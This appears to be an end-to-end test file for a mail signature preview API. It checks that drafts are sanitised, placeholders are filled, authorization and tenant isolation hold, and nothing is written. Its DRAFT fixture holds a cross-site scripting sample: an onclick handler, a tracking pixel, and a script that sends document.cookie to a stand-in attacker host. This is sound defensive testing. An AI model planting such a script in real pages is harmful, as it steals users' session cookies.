"""``POST /v1/accounts/{id}/signatures/preview`` with authz running: a draft sanitised as a save
would sanitise it, what was removed, placeholders filled as a send fills them; Configure needed,
another tenant's mailbox not there, bad drafts 422 with a code, and nothing written."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from libs.common.natsserver import NatsServer
from tests.support.registry import audit_types, imap_account, stop
from tests.support.stack import Stack, start_stack, wait_until

pytestmark = [pytest.mark.e2e, pytest.mark.connected]

DRAFT = (
    '<p onclick="steal()">Best, <b>{employee.name}</b> ({employee.title})</p>'
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    '<img src="https://tracker.example/pixel.gif" alt="">'
    '<a href="https://acme.example">{mailbox.display_name}</a> {mailbox.address}'
)


@pytest.fixture
async def stack(tmp_path: Path, nats_server: NatsServer) -> AsyncIterator[Stack]:
    s = await start_stack(tmp_path, nats_server, ("registry", "authz", "audit"))
    try:
        yield s
    finally:
        await stop(s)


async def _employee(stack: Stack, name: str, title: str = "") -> str:
    body = {"name": name, "email": f"{name.split()[0].lower()}@x.io", "title": title}
    r = await stack.call("POST", "/v1/employees", json=body)
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


async def _grant(stack: Stack, mailbox: str, employee: str, level: str) -> None:
    async def granted() -> bool:  # authz learns of the new mailbox from the event stream
        body = {"grantee_kind": "employee", "grantee_id": employee, "level": level}
        r = await stack.call("POST", f"/v1/mailboxes/{mailbox}/grants", json=body)
        return r.status_code in (200, 201)

    await wait_until(granted)


async def test_preview_sanitises_fills_placeholders_and_writes_nothing(stack: Stack) -> None:
    owner = await _employee(stack, "Ada <Lovelace>", "CTO")
    account = imap_account("sales@x.io", owner_id=owner, send_as_name="Acme Sales")
    r = await stack.call("POST", "/v1/accounts", json=account)
    assert r.status_code == 201, r.text
    mailbox = r.json()["id"]
    url = f"/v1/accounts/{mailbox}/signatures/preview"

    r = await stack.call("POST", url, json={"html": DRAFT})
    assert r.status_code == 200, r.text
    p = r.json()
    for bad in ("<script", "onclick", "tracker.example", "evil.example", "steal"):
        assert bad not in p["html"] and bad not in p["filled_html"], bad
    assert p["html"].startswith("<p>Best, <b>{employee.name}</b> ({employee.title})</p><img")
    assert p["placeholders"] == [
        "employee.name",
        "employee.title",
        "mailbox.address",
        "mailbox.display_name",
    ]
    assert "<b>Ada &lt;Lovelace&gt;</b> (CTO)" in p["filled_html"]  # escaped in HTML
    assert ">Acme Sales</a> sales@x.io" in p["filled_html"]
    assert (
        p["filled_text"]
        == "Best, Ada <Lovelace> (CTO)\nAcme Sales <https://acme.example> sales@x.io"
    )
    assert p["text"].startswith("Best, {employee.name} ({employee.title})")
    assert p["filled_for"] == owner and p["values"]["employee.name"] == "Ada <Lovelace>"
    removed = {(x["element"], x["attribute"]): x["count"] for x in p["removed"]}
    assert removed == {("script", None): 1, ("p", "onclick"): 1, ("img", "src"): 1}

    # The same draft saved stores exactly the previewed HTML and text.
    saved = await stack.call(
        "PUT", f"/v1/accounts/{mailbox}/signatures/default", json={"html": DRAFT}
    )
    assert saved.json()["signature"]["html"] == p["html"]
    assert saved.json()["signature"]["text"] == p["text"]

    # A preview writes nothing: one SignatureSet (the save), the account's version unchanged.
    version = (await stack.call("GET", f"/v1/accounts/{mailbox}")).json()["version"]
    for _ in range(3):
        assert (await stack.call("POST", url, json={"html": "<i>x</i>"})).status_code == 200
    names = await audit_types(stack, mailbox, 2)
    assert names == ["AccountAdded", "SignatureSet"]
    got = await stack.call("GET", f"/v1/accounts/{mailbox}")
    assert got.json()["version"] == version
    listed = (await stack.call("GET", f"/v1/accounts/{mailbox}/signatures")).json()["items"]
    assert [s["html"] for s in listed] == [p["html"]]


async def test_an_employee_previews_as_themself_and_needs_configure(stack: Stack) -> None:
    ada = await _employee(stack, "Ada Admin", "Head of Sales")
    rea = await _employee(stack, "Rea Reader")
    shared = await stack.call(
        "POST", "/v1/accounts", json=imap_account("team@x.io", ownership="shared")
    )
    mailbox = shared.json()["id"]
    url = f"/v1/accounts/{mailbox}/signatures/preview"
    body = {"html": "{employee.name}, {employee.title}"}

    r = await stack.call("POST", url, json=body)  # an admin; the mailbox has no owner
    assert r.status_code == 200 and r.json()["filled_for"] is None
    assert r.json()["filled_text"] == ", " and r.json()["removed"] == []

    await _grant(stack, mailbox, rea, "read")
    r = await stack.call("POST", url, json=body, role="employee", subject=rea)
    assert r.status_code == 403, r.text
    await _grant(stack, mailbox, ada, "configure")
    r = await stack.call("POST", url, json=body, role="employee", subject=ada)
    assert r.status_code == 200, r.text
    assert r.json()["filled_text"] == "Ada Admin, Head of Sales" and r.json()["filled_for"] == ada


async def test_other_tenants_and_bad_drafts(stack: Stack) -> None:
    mailbox = (await stack.call("POST", "/v1/accounts", json=imap_account("a@x.io"))).json()["id"]
    url = f"/v1/accounts/{mailbox}/signatures/preview"
    r = await stack.call("POST", url, json={"html": "x"}, tenant="other")
    assert r.status_code == 404 and "a@x.io" not in r.text
    r = await stack.call("POST", url, json={"html": "x"}, tenant="other", role="employee")
    assert r.status_code in (403, 404) and "a@x.io" not in r.text
    r = await stack.call("POST", "/v1/accounts/nope/signatures/preview", json={"html": "x"})
    assert r.status_code == 404
    cases = [
        ({"html": ""}, "invalid_request"),
        ({"html": "x" * 70_000}, "invalid_request"),
        ({"html": "<script>alert(1)</script>"}, "empty_signature"),
        ({"html": '<img src="https://tracker.example/p.gif">'}, "empty_signature"),
        ({"html": "Regards, {employee.nmae}"}, "unknown_placeholder"),
        ({"html": "x", "name": "default"}, "invalid_request"),
        ({}, "invalid_request"),
    ]
    for body, code in cases:
        r = await stack.call("POST", url, json=body)
        assert r.status_code == 422 and r.json()["error"]["code"] == code, (body, r.text)
    r = await stack.call("POST", url, json={"html": "<![weird[ x ]]> <b>ok</b>"})
    assert r.status_code == 200 and r.json()["removed"] is None  # too odd to take stock of
    assert (await stack.call("GET", f"/v1/accounts/{mailbox}/signatures")).json()["items"] == []
